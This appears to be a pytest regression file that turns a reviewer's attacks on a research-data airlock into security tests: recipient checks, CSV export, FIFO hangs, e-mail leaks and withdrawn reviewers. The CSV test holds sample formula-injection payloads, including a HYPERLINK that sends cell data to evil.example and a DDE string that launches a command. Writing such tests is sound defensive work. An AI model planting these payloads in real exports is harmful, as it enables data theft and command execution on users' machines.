"""Independent reviewer's attacks (5 Dec 2026), less the sdc holdings one (fixed elsewhere):
outsider recipients, formulas in the register's CSV, a FIFO named like a notebook, workspace
words in notifications and e-mails, and a withdrawn checker's review."""

from __future__ import annotations

import csv
import io
import os
import threading

import pytest

from notebooks import runner
from output_checks import airlock
from output_checks.airlock import AirlockError
from projects import registry
from tests.conftest import STUDIED_TODAY
from tests.output_checks.test_airlock import AUTHOR, P, outputs, rel  # noqa: F401 (fixture)
from tre import sandbox
from tre.errors import Refused, TreError
from tre.folders import ProjectFolders
from tre.sandbox import SandboxError

# ---------------------------------------------------------------------------------------------
# recipients: an outsider (not in the project) or an unaccredited person


@pytest.mark.parametrize(
    ("outsider", "why"),
    [
        ("eve.outsider", "eve.outsider is not a member of project supporting-families's team"),
        ("ash.approver", "ash.approver holds no accreditation"),
        ("sol.approver", "sol.approver is not a member"),
        ("sam.lead", "sam.lead holds no accreditation"),  # in the team, never accredited
    ],
)
def test_a_release_cannot_name_someone_outside_the_project_as_recipient(
    studied,
    outputs,  # noqa: F811
    outsider,
    why,
):
    with pytest.raises(AirlockError, match="accredited members of the project's team") as refused:
        airlock.request(
            studied,
            P,
            AUTHOR,
            [rel(outputs["run"], "note.md")],
            at=STUDIED_TODAY,
            recipients=["bea.analyst", outsider],
        )
    assert why in str(refused.value) and "bea.analyst" not in str(refused.value)


def test_a_recipient_suspended_after_release_cannot_download(studied, outputs):  # noqa: F811
    request_id = airlock.request(
        studied,
        P,
        AUTHOR,
        [rel(outputs["run"], "note.md")],
        at=STUDIED_TODAY,
        recipients=["bea.analyst"],
    )
    airlock.submit(studied, request_id, AUTHOR, at=STUDIED_TODAY)
    for checker in ("chris.checker", "dana.checker"):
        airlock.review(studied, request_id, checker, "note.md", "approve")
        airlock.submit_review(studied, request_id, checker)
    airlock.release(studied, request_id, "chris.checker")
    assert airlock.download(studied, request_id, "bea.analyst", "note.md").startswith(b"# A note")
    with studied.db.session() as session:
        registry.set_suspended(session, "ops.operator", "bea.analyst", True)
    try:
        with pytest.raises(Refused, match="bea.analyst's account is suspended"):
            airlock.download(studied, request_id, "bea.analyst", "note.md")
    finally:
        with studied.db.session() as session:
            registry.set_suspended(session, "ops.operator", "bea.analyst", False)
    assert airlock.download(studied, request_id, "bea.analyst", "note.md").startswith(b"# A note")


# ---------------------------------------------------------------------------------------------
# the public register's CSV: a lead's words become spreadsheet formulas


def test_register_csv_neutralises_formulas():
    from projects import register

    row = {
        "id": "p",
        "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "status": "submitted",
        "category": "x",
        "lead_organisation": "\tTab",
        "controllers": ["\rCR"],
        "datasets": [],
        "legal_basis": [],
        "gateways": [],
        "start": "",
        "end": "",
        "purpose": "+cmd|' /C calc'!A0",
        "public_benefit": "@SUM(1)",
        "lay_summary": "-2+3",
        "onward_sharing": False,
        "commercial_use": False,
    }
    out = list(csv.reader(io.StringIO(register.as_csv([row]))))[1]
    bad = [c for c in out if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not bad, bad
    assert "'-2+3" in out and "'@SUM(1)" in out and "'\tTab" in out


# ---------------------------------------------------------------------------------------------
# run with provenance: a FIFO named like a notebook in the analyst's own workspace


def test_a_fifo_named_like_a_notebook_does_not_hang_the_service(studied):
    space = ProjectFolders.of(studied, P).workspace / AUTHOR
    space.mkdir(parents=True, exist_ok=True)
    fifo = space / "hang.ipynb"
    os.mkfifo(fifo)
    outcome = []

    def ask():
        try:
            runner.run_runnable(studied, P, AUTHOR, "workspace/hang.ipynb", at=STUDIED_TODAY)
            outcome.append("ran")
        except TreError as exc:
            outcome.append(f"refused: {exc}")

    try:
        assert "workspace/hang.ipynb" not in runner.runnable(studied, P, AUTHOR)
        with pytest.raises(SandboxError, match="hang.ipynb: not a regular file"):
            sandbox.read_inside(space, "hang.ipynb")  # no wait: refused at once
        worker = threading.Thread(target=ask, daemon=True)
        worker.start()
        worker.join(15)
        hung = worker.is_alive()
        if hung:  # release the service's thread: open the FIFO's other end
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
            worker.join(15)
    finally:
        fifo.unlink()
    assert not hung, "the runner's read of the workspace's FIFO blocked the service's thread"
    assert outcome and outcome[0].startswith("refused: ") and "cannot be run" in outcome[0]


# ---------------------------------------------------------------------------------------------
# notifications and e-mails: the author's reply (workspace-written text) never leaves by mail


def test_the_authors_reply_is_not_e_mailed_or_put_in_notifications(studied, outputs):  # noqa: F811
    from aiosmtpd.controller import Controller
    from aiosmtpd.handlers import Message

    from output_checks import notify
    from tests.output_checks.test_review_and_release import free_port

    received = []

    class Inbox(Message):
        def handle_message(self, message):
            received.append(message)

    secret = "row 17 is Jane Doe, born 1984-02-03"
    request_id = airlock.request(
        studied, P, AUTHOR, [rel(outputs["run"], "note.md")], context=secret, at=STUDIED_TODAY
    )
    smtp = Controller(Inbox(), hostname="127.0.0.1", port=free_port())
    smtp.start()
    settings = studied.settings.notify
    settings.smtp_host, settings.smtp_port = "127.0.0.1", smtp.port
    try:
        airlock.submit(studied, request_id, AUTHOR, at=STUDIED_TODAY)
        airlock.comment(studied, request_id, AUTHOR, secret)
    finally:
        settings.smtp_host = ""
        smtp.stop()
    airlock.withdraw(studied, request_id, AUTHOR)
    replies = [m for m in received if m["Subject"].endswith("replied to")]
    assert {m["To"] for m in replies} >= {"chris.checker@treton.example"}
    for message in received:
        body = message.as_string() + message.get_payload(decode=True).decode()
        assert "Jane Doe" not in body and "1984" not in body, body
    reply = replies[0].get_payload(decode=True).decode()
    assert f"/airlock/requests/{request_id}" in reply and "read it on the request page" in reply
    told = [n for n in notify.notifications(studied, "chris.checker") if n["request"] == request_id]
    assert told and all("Jane Doe" not in n["text"] for n in told)
    assert {n["page"] for n in told} == {f"/airlock/requests/{request_id}"}


# ---------------------------------------------------------------------------------------------
# a checker's submitted review stops counting once their checker rights are withdrawn


def test_a_withdrawn_checkers_review_no_longer_counts(studied, outputs):  # noqa: F811
    request_id = airlock.request(
        studied, P, AUTHOR, [rel(outputs["run"], "note.md")], at=STUDIED_TODAY
    )
    airlock.submit(studied, request_id, AUTHOR, at=STUDIED_TODAY)
    for checker in ("chris.checker", "dana.checker"):
        airlock.review(studied, request_id, checker, "note.md", "approve")
        airlock.submit_review(studied, request_id, checker)
    shown = airlock.show(studied, request_id, "chris.checker")
    assert (shown["state"], shown["reviews_in"]) == ("approved", 2)
    with studied.db.session() as session:
        registry.set_suspended(session, "ops.operator", "dana.checker", True)
    try:
        assert airlock.show(studied, request_id, "chris.checker")["reviews_in"] == 1
        with pytest.raises(AirlockError, match="note.md of request .* is no longer approved"):
            airlock.release(studied, request_id, "chris.checker")
    finally:
        with studied.db.session() as session:
            registry.set_suspended(session, "ops.operator", "dana.checker", False)
    assert "note.md" in airlock.release(studied, request_id, "chris.checker").files
